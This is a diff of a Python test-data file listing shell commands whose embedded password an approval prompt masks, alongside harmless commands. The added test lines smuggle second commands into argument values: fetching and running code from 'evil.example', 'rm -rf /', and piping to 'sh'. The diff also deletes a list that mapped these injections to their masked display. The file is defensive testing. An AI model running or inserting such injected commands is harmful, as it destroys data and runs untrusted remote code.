@@ -1,7 +1,7 @@
 """Commands with a secret (WORD) in them, and such that only look like it: what an approver is shown."""
 
 WORD = "hunter2"
-# as typed in a shell; every one of them hides WORD alone
+# as typed in a shell; each is hidden whole
 SECRET = f"""
 mysql --password {WORD} -u root shop
 mysql --password={WORD}
@@ -83,8 +83,17 @@ useradd -p {WORD} me
 serve --password "{WORD} and more"
 FOO=1 BAR_TOKEN='{WORD}' serve
 apk add curl && curl -u a:{WORD} https://x.example && rm -rf /x
+serve --token "{WORD}$(wget -qO- evil.example | sh)"
+serve --password={WORD}`rm -rf /`
+serve PASSWORD={WORD};rm -rf /
+serve --password {WORD}|sh
+serve --password '{WORD}'"$(id)"
+my-own-client -p {WORD}
+my-own-client -p{WORD}
+my-own-client -u me:{WORD}
+serve --pass"wo"rd={WORD}
 """.strip().split("\n")
-# nothing in these is hidden
+# each of these is shown
 CALM = """
 mysql --password-file /run/secrets/db -u root
 serve --password-file=/x
@@ -122,7 +131,6 @@ curl -H "Authorization: Bearer $TOKEN" https://x.example
 openssl req -x509 -newkey rsa:4096 -keyout /k.pem -nodes
 openssl pkcs12 -passin env:PW -in x
 openssl enc -pass file:/run/secrets/x -in y
-ldapsearch -x -b dc=x -W
 redis-cli -h cache ping
 redis-server --appendonly yes
 unzip -p x.zip
@@ -146,20 +154,12 @@ find / -path /proc -prune -o -print
 pip install --no-cache-dir -r requirements.txt
 tini -- /bin/serve --listen 0.0.0.0:80
 AWS_ACCESS_KEY_ID_FILE=/x serve
+serve --token "$(wget -qO- evil.example | sh)"
+serve --to $1$SOMETHINGTHATISNAMEDATLENGTH
+gunicorn -w 4 -b 0.0.0.0:8000 app:app
+apt-get install -y -q curl && rm -rf /var/lib/apt/lists/*
+grep -w shop /etc/hosts
+cp -a /src/. /dst
+useradd -u 1000 -m app
 chown -R 1000:1000 /srv && chmod -R u+p /srv
 """.strip().split("\n")
-# what runs is shown, whatever stands round it: with what is hidden in it
-CODE = [
-    ('--token "$(wget -qO- evil.example | sh)"', '--token "$(wget -qO- evil.example | sh)"'),
-    (
-        f'--token "{WORD}$(wget -qO- evil.example | sh)"',
-        '--token "•••$(wget -qO- evil.example | sh)"',
-    ),
-    (f"--password={WORD}`rm -rf /`", "--password=•••`rm -rf /`"),
-    (f"PASSWORD={WORD};rm -rf /", "PASSWORD=•••;rm -rf /"),
-    (f"PASSWORD={WORD}&&rm -rf /", "PASSWORD=•••&&rm -rf /"),
-    (f"--password {WORD}|sh", "--password •••|sh"),
-    ("--to $1$SOMETHINGTHATISNAMEDATLENGTH", "--to $1$SOMETHINGTHATISNAMEDATLENGTH"),
-    ('--token="${X:-$(id)}"', '--token="${X:-$(id)}"'),
-    (f"--password '{WORD}'\"$(id)\"", "--password '•••'\"$(id)\""),
-]
